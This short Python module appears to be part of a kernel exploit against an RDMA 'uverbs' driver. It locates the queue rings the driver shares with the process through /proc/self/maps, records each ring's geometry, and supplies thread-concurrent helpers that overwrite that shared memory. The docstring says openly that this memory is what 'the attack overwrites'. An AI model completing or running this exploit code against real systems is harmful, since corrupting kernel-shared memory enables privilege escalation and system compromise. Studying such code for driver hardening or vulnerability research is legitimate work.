# SPDX-License-Identifier: GPL-2.0
"""The queues that a process shares with the driver, through its mappings."""
import ctypes
import struct

HEADER, PRODUCER, CONSUMER = 384, 128, 256
RESIZE_CQ, REQ_NOTIFY_CQ, POST_SEND, MODIFY_SRQ = 19, 23, 28, 33
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]


class Ring:
    """A mapped queue; `offset`: where mmap finds it in the device file. Its geometry is read before the attack overwrites it."""

    def __init__(self, address, size, offset):
        self.address, self.size, self.offset = address, size, offset
        self.log2, self.mask = struct.unpack("=II", ctypes.string_at(address, 8))
        self.next = 0

    def write(self, offset, data):
        offset = max(0, min(offset, self.size - len(data)))
        # Calls through ctypes release the interpreter's lock, so threads write concurrently.
        ctypes.memmove(self.address + offset, data, len(data))

    def number(self, offset, value):
        self.write(offset, struct.pack("=I", value & 0xFFFFFFFF))


def mapped():
    found = []
    with open("/proc/self/maps") as maps:
        for line in maps:
            if "uverbs" in line:
                addresses, _, offset = line.split()[:3]
                start, end = (int(word, 16) for word in addresses.split("-"))
                found.append(Ring(start, end - start, int(offset, 16)))
    return found
